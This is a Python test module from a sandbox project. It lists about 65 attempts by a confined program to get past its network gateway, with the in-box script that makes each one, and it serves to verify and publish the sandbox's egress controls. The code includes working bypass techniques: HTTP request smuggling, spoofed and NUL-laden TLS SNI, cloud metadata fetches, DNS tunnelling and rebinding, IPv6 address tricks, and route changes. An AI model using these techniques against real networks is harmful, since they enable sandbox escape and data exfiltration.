# ruff: noqa: E501
"""What a program in a box tries to get past its gateway; `SOURCE` runs in the box, `ATTEMPTS` names each try.

The program prints one JSON object: for each attempt "reached" if the forbidden server's word was read, else how
it was stopped. `docs/security.md` publishes the list.
"""

from __future__ import annotations

ATTEMPTS: dict[str, str] = {
    "other name": "resolve and fetch a name that no rule has",
    "host by its address": "fetch the host's service at the host's own address",
    "host by the gateway": "fetch an undeclared port of the host at 10.0.2.2",
    "host by the gateway, IPv6": "the same at the gateway's IPv6 address",
    "gateway's link-local address": "the same at the gateway's fe80:: address",
    "metadata": "fetch 169.254.169.254",
    "metadata, IPv6": "fetch fd00:ec2::254",
    "metadata, name": "fetch metadata.google.internal",
    "private network": "connect to 192.168.1.1",
    "another box": "connect to a neighbour's address",
    "public address": "fetch a public address without a name",
    "public address, IPv6": "fetch 2606:4700:4700::1111",
    "mapped address": "fetch the host by ::ffff:a.b.c.d",
    "NAT64 address": "fetch the host by 64:ff9b::a.b.c.d",
    "6to4 address": "fetch the host by 2002:…",
    "other port": "connect to another port of an allowed name",
    "ssh port": "connect to port 22 of an allowed name",
    "TLS without a name": "a hello without SNI at an allowed name's address",
    "TLS with another name": "a hello with another SNI at an allowed name's address",
    "TLS with an allowed name elsewhere": "a hello with an allowed SNI at another address",
    "TLS with an address as name": "a hello whose SNI is an address",
    "TLS with NUL in the name": "a hello whose SNI is an allowed name, NUL and another",
    "TLS with two names": "a hello with two server names",
    "TLS hello in pieces": "another SNI, its hello cut over many records",
    "TLS hello byte by byte": "another SNI, its hello sent a byte at a time",
    "TLS name in capitals": "another SNI in capitals and with a dot",
    "ECH where tls is strict": "an encrypted hello with an allowed outer name",
    "DoH": "a hello for dns.google at 8.8.8.8",
    "DoT": "port 853 of a public resolver",
    "Host of another": "an allowed name's address with another Host",
    "allowed Host elsewhere": "another address with an allowed Host",
    "second request": "another Host in the second request of a connection",
    "pipelined request": "another Host behind a request in the same packet",
    "request in a body": "another request smuggled by two body lengths",
    "request in a chunk": "another request smuggled behind a chunked body",
    "two Hosts": "two Host headers",
    "absolute target": "another host in the request's target",
    "CONNECT": "CONNECT to another host by an allowed server",
    "address as number": "a Host that spells an address as one number",
    "user in the URL": "a Host with an allowed name as user",
    "rebinding name": "an allowed name whose name server answers with the host's address",
    "alias": "a name that no rule has, an alias of an allowed one",
    "alias to the inside": "an allowed name, an alias of a name at a private address",
    "own name server": "ask 8.8.8.8 for a name that no rule has",
    "own name server by TCP": "the same by TCP",
    "DNS tunnel": "a question that carries data below a name that no rule has",
    "TXT record": "a TXT question for an allowed name",
    "HTTPS record": "an HTTPS question, which would give keys for encrypted hellos",
    "zone transfer": "an AXFR question for an allowed name",
    "mDNS": "a multicast question",
    "QUIC": "a datagram to port 443 of an allowed name",
    "NTP": "a datagram to port 123",
    "datagram to the host": "a datagram to a port of the host at 10.0.2.2",
    "broadcast": "a broadcast datagram",
    "ping": "an echo request to a public address",
    "raw socket": "a raw ICMP socket",
    "packet socket": "a packet socket",
    "GRE": "a raw socket of IP protocol 47",
    "SCTP": "an SCTP socket",
    "vsock": "a vsock socket to the host",
    "own address": "another address for the network device",
    "own route": "another route",
    "TCP fast open": "data within the first packet to a public address",
    "HTTP/2 without TLS": "a cleartext HTTP/2 preface at a public address",
}

SOURCE = r'''
import json, os, socket, struct, sys
given = json.loads(sys.argv[1])
OK, OKP, TLSP, BADP, HOST, WORD = (given[k] for k in ("name", "port", "tls_port", "other_port", "host", "word"))
WORD = WORD.encode()
out, table = {}, {}
WAIT = 90

def attempt(name):
    def take(run):
        table[name] = run
        return run
    return take

def talk(address, port, data, pieces=None, family=None):
    """Connect, send, read to the end; what was read."""
    family = family or (socket.AF_INET6 if ":" in address else socket.AF_INET)
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(WAIT)
        s.connect((address, port))
        for piece in pieces or [data]:
            s.sendall(piece)
        got = b""
        while True:
            try:
                more = s.recv(65536)
            except ConnectionResetError:
                return got or b"RESET"
            if not more:
                return got
            got += more
            if WORD in got:
                return got

def http(host, path="/", extra="", version="1.1"):
    return f"GET {path} HTTP/{version}\r\nHost: {host}\r\n{extra}Connection: close\r\n\r\n".encode()

def verdict(got):
    if WORD in got: return "reached"
    if got.startswith(b"HTTP/1.1 403"): return "403"
    if got.startswith(b"HTTP/1.1 502"): return "502"
    if got.startswith(b"\x15\x03"): return "TLS alert"
    if got == b"RESET": return "reset"
    if not got: return "closed"
    return "answered " + repr(got[:60])

def fetch(address, port, host=None, **more):
    return verdict(talk(address, port, http(host or address, **more)))

def resolve(name, family=socket.AF_INET):
    return socket.getaddrinfo(name, None, family, socket.SOCK_STREAM)[0][4][0]

def hello(sni, ech=False, twice=False, raw=None):
    def vec(n, data): return len(data).to_bytes(n, "big") + data
    ext = b""
    if sni is not None:
        name = raw if raw is not None else sni.encode()
        entry = b"\0" + vec(2, name)
        ext += b"\0\0" + vec(2, vec(2, entry * (2 if twice else 1)))
    if ech: ext += b"\xfe\x0d" + vec(2, b"\0" * 64)
    ext += b"\0\x2b" + vec(2, b"\x02\x03\x04")
    body = b"\x03\x03" + bytes(32) + vec(1, bytes(32)) + vec(2, b"\x13\x01") + b"\x01\0" + vec(2, ext)
    message = b"\x01" + vec(3, body)
    return message

def record(message): return b"\x16\x03\x01" + len(message).to_bytes(2, "big") + message

def tls(address, port, message, pieces=None):
    return verdict(talk(address, port, record(message), pieces))

def question(name, kind, server="8.8.8.8", tcp=False):
    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0"
    q = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack("!HH", kind, 1)
    if tcp:
        with socket.create_connection((server, 53), WAIT) as s:
            s.sendall(len(q).to_bytes(2, "big") + q)
            data = b""
            while len(data) < 2 or len(data) < 2 + int.from_bytes(data[:2], "big"):
                more = s.recv(4096)
                if not more: break
                data += more
            data = data[2:]
    else:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(WAIT)
            s.sendto(q, (server, 53))
            data = s.recv(4096)
    code, answers = data[3] & 15, int.from_bytes(data[6:8], "big")
    if answers: return f"{answers} answers"
    return {0: "no data", 3: "NXDOMAIN", 5: "REFUSED", 4: "NOTIMP"}.get(code, f"code {code}")

def datagram(address, port, data=b"x" * 1200):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(WAIT)
        s.connect((address, port))
        s.send(data)
        return "answered" if s.recv(100) else "answered"

@attempt("other name")
def _(): return fetch(resolve("denied.test"), BADP)
@attempt("host by its address")
def _(): return fetch(HOST, BADP)
@attempt("host by the gateway")
def _(): return fetch("10.0.2.2", BADP)
@attempt("host by the gateway, IPv6")
def _(): return fetch("fd00:0:0:2::2", BADP, host="[fd00:0:0:2::2]")
@attempt("gateway's link-local address")
def _():
    # Derived from its hardware address 52:55:0a:00:02:02 (RFC 4291 appendix A).
    with socket.socket(socket.AF_INET6) as s:
        s.settimeout(WAIT)
        s.connect(("fe80::5055:aff:fe00:202", BADP, 0, socket.if_nametoindex("eth0")))
        s.sendall(http("x.test"))
        got = s.recv(4096)
        return verdict(got)
@attempt("metadata")
def _(): return fetch("169.254.169.254", 80)
@attempt("metadata, IPv6")
def _(): return fetch("fd00:ec2::254", 80, host="[fd00:ec2::254]")
@attempt("metadata, name")
def _(): return fetch(resolve("metadata.google.internal"), 80)
@attempt("private network")
def _(): return fetch("192.168.1.1", 80)
@attempt("another box")
def _(): return fetch("10.0.2.16", BADP)
@attempt("public address")
def _(): return fetch("93.184.216.34", 80)
@attempt("public address, IPv6")
def _(): return fetch("2606:4700:4700::1111", 80, host="[2606:4700:4700::1111]")
def packed(prefix, suffix=""):
    a, b, c, d = map(int, HOST.split("."))
    return f"{prefix}{a:02x}{b:02x}:{c:02x}{d:02x}{suffix}"
@attempt("mapped address")
def _(): return verdict(talk("::ffff:" + HOST, BADP, http(HOST), family=socket.AF_INET6))
@attempt("NAT64 address")
def _(): return fetch(packed("64:ff9b::"), BADP, host="x.test")
@attempt("6to4 address")
def _(): return fetch(packed("2002:", "::1"), BADP, host="x.test")
@attempt("other port")
def _(): return fetch(resolve(OK), BADP, host=OK)
@attempt("ssh port")
def _(): return verdict(talk(resolve(OK), 22, b"SSH-2.0-x\r\n"))
@attempt("TLS without a name")
def _(): return tls(resolve(OK), TLSP, hello(None))
@attempt("TLS with another name")
def _(): return tls(resolve(OK), TLSP, hello("denied.test"))
@attempt("TLS with an allowed name elsewhere")
def _(): return tls("93.184.216.34", TLSP, hello(OK))
@attempt("TLS with an address as name")
def _(): return tls(resolve(OK), TLSP, hello("127.0.0.1"))
@attempt("TLS with NUL in the name")
def _(): return tls(resolve(OK), TLSP, hello("", raw=OK.encode() + b"\0.denied.test"))
@attempt("TLS with two names")
def _(): return tls(resolve(OK), TLSP, hello(OK, twice=True))
@attempt("TLS hello in pieces")
def _():
    m = hello("denied.test")
    return verdict(talk(resolve(OK), TLSP, b"", [record(m[i:i + 9]) for i in range(0, len(m), 9)]))
@attempt("TLS hello byte by byte")
def _():
    m = record(hello("denied.test"))
    return verdict(talk(resolve(OK), TLSP, b"", [m[i:i + 1] for i in range(len(m))]))
@attempt("TLS name in capitals")
def _(): return tls(resolve(OK), TLSP, hello("DENIED.TEST."))
@attempt("ECH where tls is strict")
def _(): return tls(resolve("strict.test"), TLSP, hello("strict.test", ech=True))
@attempt("DoH")
def _(): return tls("8.8.8.8", 443, hello("dns.google"))
@attempt("DoT")
def _(): return tls("8.8.8.8", 853, hello("dns.google"))
@attempt("Host of another")
def _(): return fetch(resolve(OK), OKP, host="denied.test")
@attempt("allowed Host elsewhere")
def _(): return fetch(HOST, BADP, host=OK)
def after_first(data):
    """Whether what follows an allowed request reaches the server: it answers each with its Host."""
    with socket.create_connection((resolve(OK), OKP), WAIT) as s:
        s.sendall(f"GET / HTTP/1.1\r\nHost: {OK}\r\n\r\n".encode())
        got = s.recv(4096)
        if b"hello" not in got: return "first request failed: " + repr(got[:60])
        s.sendall(data)
        got = b""
        while True:
            try: more = s.recv(4096)
            except ConnectionResetError: return "reset"
            if not more: return "closed" if b"denied.test" not in got else "reached"
            got += more
@attempt("second request")
def _(): return after_first(http("denied.test"))
@attempt("pipelined request")
def _(): return verdict(talk(resolve(OK), OKP, f"GET / HTTP/1.1\r\nHost: {OK}\r\n\r\n".encode() + http("denied.test")))
@attempt("request in a body")
def _():
    smuggled = http("denied.test")
    data = f"POST / HTTP/1.1\r\nHost: {OK}\r\nContent-Length: {len(smuggled) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    return verdict(talk(resolve(OK), OKP, data.encode() + smuggled))
@attempt("request in a chunk")
def _():
    data = f"POST / HTTP/1.1\r\nHost: {OK}\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n\r\n".encode()
    return verdict(talk(resolve(OK), OKP, data + http("denied.test")))
@attempt("two Hosts")
def _(): return verdict(talk(resolve(OK), OKP, http(OK, extra="Host: denied.test\r\n")))
@attempt("absolute target")
def _(): return fetch(resolve(OK), OKP, host=OK, path="http://denied.test/")
@attempt("CONNECT")
def _(): return verdict(talk(resolve(OK), OKP, f"CONNECT denied.test:443 HTTP/1.1\r\nHost: {OK}\r\n\r\n".encode()))
@attempt("address as number")
def _(): return fetch(resolve(OK), OKP, host="2130706433")
@attempt("user in the URL")
def _(): return fetch(resolve(OK), OKP, host=f"{OK}@denied.test")
@attempt("rebinding name")
def _(): return fetch(resolve("rebinding.test"), BADP, host="rebinding.test")
@attempt("alias")
def _(): return fetch(resolve("alias.test"), BADP, host="alias.test")
@attempt("alias to the inside")
def _(): return fetch(resolve("inside.test"), BADP, host="inside.test")
@attempt("own name server")
def _(): return question("denied.test", 1)
@attempt("own name server by TCP")
def _(): return question("denied.test", 1, tcp=True)
@attempt("DNS tunnel")
def _(): return question("c2VjcmV0LWRhdGEtZnJvbS1hLWJveA.1.tunnel.test", 1)
@attempt("TXT record")
def _(): return question(OK, 16)
@attempt("HTTPS record")
def _(): return question(OK, 65)
@attempt("zone transfer")
def _(): return question(OK, 252, tcp=True)
@attempt("mDNS")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.sendto(b"x" * 20, ("224.0.0.251", 5353))
        s.recv(10)
        return "answered"
@attempt("QUIC")
def _(): return datagram(resolve(OK), 443)
@attempt("NTP")
def _(): return datagram("93.184.216.34", 123)
@attempt("datagram to the host")
def _(): return datagram("10.0.2.2", OKP)
@attempt("broadcast")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(b"x", ("10.0.2.255", 9))
        s.recv(10)
        return "answered"
@attempt("ping")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.settimeout(WAIT)
        s.connect(("8.8.8.8", 0))
        s.send(b"\x08\0\0\0\0\0\0\1" + b"x" * 8)
        return "answered" if s.recv(100) else ""
@attempt("raw socket")
def _(): return str(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
@attempt("packet socket")
def _(): return str(socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
@attempt("GRE")
def _(): return str(socket.socket(socket.AF_INET, socket.SOCK_RAW, 47))
@attempt("SCTP")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as s:
        s.connect((HOST, BADP))
        return "connected"
@attempt("vsock")
def _(): return str(socket.socket(40, socket.SOCK_STREAM, 0))
def rtnetlink(kind, body):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.bind((0, 0))
        s.send(struct.pack("=IHHII", 16 + len(body), kind, 0x405, 1, 0) + body)
        answer = s.recv(4096)
        code = struct.unpack_from("=i", answer, 16)[0]
        return "done" if code == 0 else os.strerror(-code)
@attempt("own address")
def _():
    index = socket.if_nametoindex("eth0")
    attribute = struct.pack("=HH4s", 8, 2, socket.inet_aton("10.0.2.2"))
    return rtnetlink(20, struct.pack("=BBBBI", 2, 24, 0, 0, index) + attribute)
@attempt("own route")
def _():
    index = socket.if_nametoindex("eth0")
    head = struct.pack("=BBBBBBBBI", 2, 32, 0, 0, 254, 4, 253, 1, 0)
    return rtnetlink(24, head + struct.pack("=HH4sHHi", 8, 1, socket.inet_aton(HOST), 8, 4, index))
@attempt("TCP fast open")
def _():
    with socket.socket() as s:
        s.settimeout(WAIT)
        s.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCP_FASTOPEN_CONNECT
        s.connect(("93.184.216.34", 80))
        s.sendall(http("93.184.216.34"))
        return verdict(s.recv(4096))
@attempt("HTTP/2 without TLS")
def _(): return verdict(talk("93.184.216.34", 80, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9)))

@attempt("control http")
def _(): return "reached" if b"hello" in talk(resolve(OK), OKP, http(OK)) else "lost"
@attempt("control TLS")
def _(): return tls(resolve(OK), TLSP, hello(OK))
@attempt("control declared port")
def _(): return "reached" if b"hello" in talk("10.0.2.2", OKP, http(OK)) else "lost"

only = given.get("only") or list(table)
for name in only:
    try:
        out[name] = table[name]()
    except OSError as error:
        out[name] = error.strerror or str(error) or type(error).__name__
print(json.dumps(out))
'''
